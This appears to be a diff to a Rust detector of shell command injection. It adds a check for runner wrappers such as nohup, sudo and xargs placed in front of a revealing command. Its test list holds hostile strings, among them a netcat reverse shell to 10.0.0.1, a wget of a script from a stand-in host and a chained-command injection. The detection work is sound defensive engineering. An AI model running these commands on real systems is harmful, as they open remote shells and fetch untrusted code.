@@ -7,8 +7,8 @@
 
 use super::evidence::{Evidence, Strongest, Texture};
 use super::{shell_idioms, shell_tricks};
-use crate::text::cursor::{each_of_ci, is_space};
-use crate::text::shell::{Argument, Invocation, Mark, each_invocation};
+use crate::text::cursor::{each_of_ci, is_space, is_word};
+use crate::text::shell::{Argument, COMMANDS, Command, Invocation, Mark, each_invocation};
 
 /// The strongest evidence in `text`; `idiomatic` when a word of an idiom occurs.
 pub(crate) fn find_in(text: &[u8], idiomatic: bool, texture: Texture) -> Option<Evidence> {
@@ -196,6 +196,7 @@ fn judge(
                 (false, Flag | Technical) if aims => 6500,
                 (false, Flag) if found.rooted && !found.command.tells() => 5500,
                 (false, Flag) if found.command.tells() && texture.words <= 4 => 5500,
+                _ if texture.words <= 8 && hands_on(place.text, found) => 6500,
                 _ => return None,
             };
             ("shield.rce.command", score, score)
@@ -227,6 +228,18 @@ fn is_quoted(text: &[u8], found: &Invocation) -> bool {
         .count();
     let before = text.get(..found.start).unwrap_or_default();
     prose >= 3 || (matches!(before, [.., b' ' | b'(']) && !found.bare) || before.starts_with(b"- ")
+}
+
+/// `nohup sh -c x`, `time whoami`: a command that runs another.
+fn hands_on(text: &[u8], found: &Invocation) -> bool {
+    const RUNNERS: [&[u8]; 12] = [
+        b"nohup", b"time", b"timeout", b"env", b"sudo", b"doas", b"nice", b"strace", b"ltrace",
+        b"setsid", b"busybox", b"xargs",
+    ];
+    let name = text.get(found.start..found.end).unwrap_or_default();
+    let rest = text.get(found.end..).unwrap_or_default().trim_ascii_start();
+    let word = rest.split(|b| !is_word(*b)).next().unwrap_or_default();
+    RUNNERS.contains(&name) && COMMANDS.get(word) == Some(Command::Telling)
 }
 
 /// Commands that take a host.
@@ -341,6 +354,7 @@ mod tests {
             "nc -e /bin/sh 10.0.0.1 4242",
             "wget http://e.example/x.sh",
             "8.8.8.8 && sleep 5",
+            "nohup sh -c whoami",
         ] {
             assert!(score(text) >= 5000, "{text}");
         }
